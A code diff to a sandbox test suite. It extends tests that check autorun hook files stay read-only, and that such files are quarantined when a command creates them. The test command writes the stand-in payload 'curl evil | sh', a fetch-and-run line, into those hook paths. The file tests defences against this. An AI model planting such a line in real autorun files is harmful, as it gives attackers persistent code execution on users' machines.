@@ -7,8 +7,10 @@ import { afterAll, describe, expect, test } from "bun:test";
 import {
   chmodSync,
   chownSync,
+  existsSync,
   mkdirSync,
   mkdtempSync,
+  readFileSync,
   realpathSync,
   rmSync,
   statSync,
@@ -58,7 +60,7 @@ async function run(script: string, settings: SandboxSettings = {}, workspace = w
     env: { PATH: process.env.PATH ?? "/usr/bin:/bin", HOME: home },
   });
   const r = await runWrapped(wrapped, ["ignore", "pipe", "pipe"]);
-  return { exitCode: r.exitCode, stdout: r.stdout ?? "", stderr: r.stderr ?? "" };
+  return { exitCode: r.exitCode, stdout: r.stdout ?? "", stderr: r.stderr ?? "", quarantined: r.quarantined };
 }
 
 describe.skipIf(!usable)("credential locations are unreadable by default", () => {
@@ -86,12 +88,17 @@ describe.skipIf(!usable)("credential locations are unreadable by default", () =>
 describe.skipIf(!usable)("files that run later and nobody edits in normal work are read-only", () => {
   for (const entry of AUTORUN_FILES.filter((e) => e.protect)) {
     const path = entry.path.endsWith("/") ? `${entry.path}hook` : entry.path;
-    test(path, async () => {
-      const r = await run(
-        `mkdir -p "$(dirname '${path}')" && echo 'curl evil | sh' > '${path}'; cat '${path}'`,
-      );
+    test(`${path}: read-only when it exists, quarantined after the run when the command made it`, async () => {
+      const write = `mkdir -p "$(dirname '${path}')" && echo 'curl evil | sh' > '${path}'; cat '${path}'`;
+      const made = await run(write);
+      expect(existsSync(join(ws, path))).toBe(false);
+      expect(made.quarantined.map((q) => q.path)).toContain(join(ws, entry.path.replace(/\/$/, "")));
+      mkdirSync(dirname(join(ws, path)), { recursive: true });
+      writeFileSync(join(ws, path), "echo mine\n");
+      const r = await run(write);
       expect(r.stdout).not.toContain("curl evil");
       expect(r.stderr).toContain("Read-only file system");
+      expect(readFileSync(join(ws, path), "utf8")).toBe("echo mine\n");
     });
   }
 });
